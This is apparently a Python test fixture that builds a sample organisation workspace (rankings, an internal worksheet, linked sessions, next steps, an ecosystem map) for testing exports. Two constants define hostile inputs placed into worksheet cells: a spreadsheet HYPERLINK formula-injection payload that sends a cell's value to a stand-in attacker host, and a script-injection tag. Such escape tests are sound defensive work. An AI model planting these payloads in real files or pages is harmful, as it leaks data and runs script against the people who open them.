"""A realistic organisation workspace for the tests of its workbook and report: two versions of its ranking
(one adopted from a co-ranking session among departments), an internal worksheet with internal and
shareable fields (the internal ones carry the unique strings ``INTERNAL_*``), two relationship sessions
linked to it, revealed, with next steps (one overdue, one done, one with a named owner), and an ecosystem map
(Activity 4) with an internal actor, an internal flow, and a shareable flow to the internal actor (which the
shareable map drops too)."""

from __future__ import annotations

from dataclasses import dataclass

from trustcore import ecosystem, internal_worksheet
from trustcore import workspace as ws
from trustcore.followup.next_steps import add_next_step

INTERNAL_B = "INTERNAL-ONLY-STEPS-4f1c"
INTERNAL_C = "INTERNAL-ONLY-EVIDENCE-9a2e"
SHARED_B = "We publish our data protection impact assessments"
SHARED_C = "Audit reports on our website"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click me")'
SCRIPT = "<script>alert('owned')</script>"
INTERNAL_ACTOR = "INTERNAL-ONLY-ACTOR-77c0"
INTERNAL_FLOW = "INTERNAL-ONLY-FLOW-5d3b"
TO_INTERNAL = "FLOW-TO-AN-INTERNAL-ACTOR-1e8f"  # a shareable flow's label, to the internal actor
SHARED_FLOW = "timetables"
OWNER = "Ulrich Bramblewood"  # a next step's owner: nobody's name is in either copy


@dataclass(frozen=True)
class Sample:
    wview: ws.WorkspaceView
    token: str
    codes: tuple[str, ...]  # the linked sessions' codes (never in either copy)
    tokens: tuple[str, ...]  # their facilitator tokens


def _revealed(store, title, parties, order_b, **kw):
    made = store.create_session(title, parties, **kw)
    code, fac = made.session.code, made.facilitator_token
    ids = list(made.session.catalogue.ids)
    for party, order in zip(made.session.parties, (ids, order_b(ids), ids[::-1])):
        store.submit(code, store.join(code, party.id, f"Person of {party.name}").token, order, round_number=1)
    store.lock(code, fac, round_number=1)
    store.reveal(code, fac, round_number=1)
    return made


def sample(store, name: str = "Acme Data") -> Sample:
    org = ws.create_workspace(store, name)
    wview = store.open_workspace(org.workspace.id, org.token)
    depts = _revealed(store, "Departments 2026", ["Legal", "IT", "Sales"], lambda ids: ids[1:] + ids[:1])
    ids = list(depts.session.catalogue.ids)
    ws.set_ranking(wview, list(reversed(ids)))
    ws.adopt_consensus(wview, store.open(depts.session.code, depts.facilitator_token))
    first = internal_worksheet.build(wview).rows[0].element_id
    second = internal_worksheet.build(wview).rows[1].element_id
    internal_worksheet.set_entry(wview, first, "B", INTERNAL_B, internal=True)
    internal_worksheet.set_entry(wview, first, "C", SHARED_C)
    internal_worksheet.set_entry(wview, second, "B", SHARED_B)
    internal_worksheet.set_entry(wview, second, "C", INTERNAL_C, internal=True)
    third = internal_worksheet.build(wview).rows[2].element_id
    internal_worksheet.set_entry(wview, third, "B", FORMULA)
    internal_worksheet.set_entry(wview, third, "C", SCRIPT)
    bus = _revealed(store, "Bus 2026", ["Acme", "CityBus"], lambda i: i[::-1], our_org="Acme", partner_org="CityBus")
    water = _revealed(store, "Water 2027", ["Acme", "Water Board"], lambda i: i, partner_org="Water Board")
    codes, tokens = [], []
    for made in (bus, water):
        code, fac = made.session.code, made.facilitator_token
        ws.link_session(store.open(code, fac), wview, made.session.parties[0].id)
        codes.append(code)
        tokens.append(fac)
    bus_view = store.open(bus.session.code, bus.facilitator_token)
    add_next_step(
        bus_view,
        "privacy",
        "Publish a DPIA",
        owner_party_id=bus.session.parties[1].id,
        owner_person=OWNER,
        due="2020-01-31",
    )
    add_next_step(bus_view, "privacy", "Old step", due="2020-01-01", status="done")
    add_next_step(store.open(water.session.code, water.facilitator_token), "privacy", "Share logs", due="Q3 2099")
    us = ecosystem.add_actor(wview, name, "organisation", role="steward", organisation=True)
    bus_actor = ecosystem.add_actor(wview, "CityBus", "organisation", role="contributor")
    hidden = ecosystem.add_actor(wview, INTERNAL_ACTOR, "technology", internal=True)
    ecosystem.add_flow(wview, bus_actor.id, us.id, "data", label=SHARED_FLOW)
    ecosystem.add_flow(wview, us.id, bus_actor.id, "money", label=INTERNAL_FLOW, internal=True)
    ecosystem.add_flow(wview, us.id, hidden.id, "data", label=TO_INTERNAL)
    return Sample(wview, org.token, tuple(codes), tuple(tokens))
